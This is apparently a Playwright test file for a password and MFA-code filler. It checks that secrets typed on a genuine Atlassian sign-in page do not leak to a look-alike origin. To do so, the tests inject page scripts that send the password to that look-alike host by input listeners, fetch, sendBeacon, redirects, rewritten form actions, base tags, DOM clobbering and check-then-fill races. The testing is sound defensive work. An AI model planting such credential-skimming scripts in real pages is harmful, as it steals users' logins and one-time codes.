import { type AnyHost, anyHolds, listenOnAnyHost } from '../../fixtures/any-host.js';
import { codePage, signInPage } from '../../fixtures/sign-in-page.js';
import { tabOf } from '../../fixtures/tab.js';
import { expect, test as base } from '../../fixtures/test.js';
import { atlassianId } from '../../pages/controls/atlassian-id.js';
import { SwapError } from '../../pages/errors.js';
import { Secret } from '../../pages/secret.js';
import { submitCode, submitPassword } from '../../pages/type-secret.js';
import { WAYS } from './ways-out.js';

const GENUINE = 'id.atlassian.localhost';
const OTHER = 'id.atlassian-com.localhost';
const WORD = 'Kx7QwPz9';
const PASSWORD = `${WORD} &<"%+é`;
const FORM = { field: atlassianId.password, submit: atlassianId.submit };
const CODE = '493027';

/** A genuine site whose sign-in page is the test's, and a look-alike beside it. */
interface World {
  readonly site: AnyHost;
  /** Opens the genuine sign-in page with this behind its form, and types the password; gives the error it ended with. */
  readonly type: (more: string, action?: string) => Promise<unknown>;
  /** What the look-alike was sent. */
  readonly holds: (word: string) => Promise<boolean>;
}

const test = base.extend<{ world: World }>({
  world: async ({ page }, use) => {
    let shown = '';
    const site = await listenOnAnyHost(({ host, path }, own) => {
      if (path.startsWith('/redirect')) return { status: 307, headers: { location: own.origin(OTHER) } };
      if (path.endsWith('.js')) return { headers: { 'content-type': 'text/javascript' }, body: WORKER };
      if (host === GENUINE && path === '/login') return { body: shown };
      if (path === '/listens')
        return { body: '<script>onmessage = ({ data }) => fetch("/", { method: "POST", body: data });</script>' };
      return {
        headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' },
        body: signInPage(''),
      };
    });
    await use({
      site,
      type: async (more, action) => {
        shown = signInPage('', action, more);
        await page.goto(`${site.origin(GENUINE)}/login`);
        return await errorOf(submitPassword(tabOf(page), FORM, own(site, PASSWORD), () => undefined));
      },
      holds: async (word) => {
        // What left before has arrived once this has.
        await page
          .context()
          .newPage()
          .then((last) => last.goto(`${site.origin(OTHER)}/last`));
        return anyHolds(
          site.log.filter(({ host }) => host !== GENUINE),
          word,
        );
      },
    });
    await site.stop();
  },
});

const WORKER = 'onmessage = ({ data }) => fetch(data.to, { method: "POST", mode: "no-cors", body: data.value });';

function own(site: AnyHost, value: string): { secret: Secret; origins: string[] } {
  return { secret: new Secret(value), origins: [site.origin(GENUINE)] };
}

async function errorOf(action: Promise<unknown>): Promise<unknown> {
  return await action.then(
    () => null,
    (error: unknown) => error,
  );
}

const misplaced = { code: 'password-misplaced' };

test('the genuine form is filled and submitted, once', async ({ world }) => {
  expect(await world.type('')).toBe(null);
  const posted = world.site.log.filter(({ method }) => method === 'POST');
  expect(posted.map(({ host, body }) => [host, new URLSearchParams(body.toString()).get('password')])).toEqual([
    [GENUINE, PASSWORD],
  ]);
});

for (const [what, script] of Object.entries(WAYS)) {
  test(`a script that sends it elsewhere by ${what} is stopped, and found out`, async ({ world }) => {
    const to = JSON.stringify(world.site.origin(OTHER));
    const error = await world.type(
      `<script>const field = document.querySelector('[type=password]'); const send = async (to, value) => { ${script} };
       field.form.onsubmit = () => false;
       field.addEventListener('input', () => { send(${to}, field.value); });</script>`,
    );
    expect(error).toMatchObject(misplaced);
    expect(String(error)).not.toContain(WORD);
    expect(await world.holds(WORD)).toBe(false);
  });
}

test('what a page sends elsewhere as it goes away is stopped too', async ({ world }) => {
  const to = JSON.stringify(world.site.origin(OTHER));
  await world.type(
    `<script>onpagehide = () => { navigator.sendBeacon(${to}, document.querySelector('[type=password]').value); };</script>`,
  );
  expect(await world.holds(WORD)).toBe(false);
});

test('a redirect does not carry it on to another origin', async ({ world }) => {
  expect(await world.type('', '/redirect')).toMatchObject(misplaced);
  expect(await world.holds(WORD)).toBe(false);
});

/** Forms that would send it elsewhere, as they stand. */
const forms: Readonly<Record<string, (to: string) => [more: string, action?: string]>> = {
  action: (to) => ['', to],
  'formaction of a button': (to) => [
    `<script>document.getElementById('login-submit').setAttribute('formaction', '${to}');</script>`,
  ],
  'formaction of a button outside of it': (to) => [
    `<button form="form-login" formaction="${to}">Log in another way</button>`,
  ],
  'the address that relative ones begin at': (to) => [`<base href="${to}/">`],
  'an action that is hidden by fields of that name': (to) => [
    `<script>for (const name of ['action', 'getAttribute', 'querySelectorAll']) { const field = document.createElement('input'); field.name = name; field.type = 'hidden'; document.forms[0].append(field); }</script>`,
    to,
  ],
  'a script as the action': () => ['', 'javascript:void 0'],
};

for (const [what, make] of Object.entries(forms)) {
  test(`a form that goes elsewhere by ${what} is not filled`, async ({ page, world }) => {
    const error = await world.type(...make(world.site.origin(OTHER)));
    expect(error).toMatchObject({ ...misplaced, message: expect.stringContaining('Nothing was typed') });
    await expect(page.locator('[type=password]')).toHaveValue('');
  });
}

/** Scripts that run between the check of the field, which reads the form's attributes, and its filling. */
const between = (script: string): string =>
  `<script>const read = Element.prototype.getAttribute; let done = false;
   Element.prototype.getAttribute = function (name) { if (!done) { done = true; const field = document.querySelector('[type=password]'); ${script} } return read.call(this, name); };</script>`;

test('a page that goes away for a look-alike between check and filling gets nothing', async ({ world }) => {
  const to = world.site.origin(OTHER);
  const error = await world.type(between(`field.readOnly = true; location.href = '${to}';`));
  expect(error).toMatchObject(misplaced);
  expect(await world.holds(WORD)).toBe(false);
});

test('a form that is turned elsewhere between check and filling is stopped', async ({ world }) => {
  const to = world.site.origin(OTHER);
  expect(await world.type(between(`setTimeout(() => { field.form.action = '${to}'; });`))).toMatchObject(misplaced);
  expect(await world.holds(WORD)).toBe(false);
});

/** Fields that can't be filled, though they could be seen. */
const unusable: Readonly<Record<string, string>> = {
  disabled: between('field.disabled = true;'),
  'read-only': between('field.readOnly = true;'),
  hidden: between('field.hidden = true;'),
  replaced: between('field.replaceWith(field.cloneNode());'),
};

for (const [what, more] of Object.entries(unusable)) {
  test(`a field that is ${what} by the time it is filled gives an error without the password`, async ({ world }) => {
    const error = await world.type(more);
    expect(error).toBeInstanceOf(SwapError);
    expect(JSON.stringify(error, Object.getOwnPropertyNames(error))).not.toContain(WORD);
  });
}

test('a code goes only where it belongs', async ({ page, world }) => {
  const { site } = world;
  const form = { field: atlassianId.code, submit: atlassianId.codeSubmit };
  const type = async (content: string): Promise<unknown> => {
    await page.goto(`${site.origin(GENUINE)}/code`);
    await page.setContent(content);
    return await errorOf(submitCode(tabOf(page), form, own(site, CODE)));
  };
  const to = site.origin(OTHER);
  const beacon = (what: string): string =>
    `<script>document.forms[0].oninput = ({ target }) => { navigator.sendBeacon('${to}', ${what}); };</script>`;
  expect(await type(codePage(to))).toMatchObject(misplaced);
  expect(await type(codePage('/rest/mfa', beacon('target.value')))).toMatchObject(misplaced);
  expect(await type(codePage('/rest/mfa', beacon(`'{"at":17${CODE}55}'`)))).toBe(null);
  expect(
    anyHolds(
      site.log.filter(({ host, body }) => host === OTHER && !body.includes('at')),
      CODE,
    ),
  ).toBe(false);
});
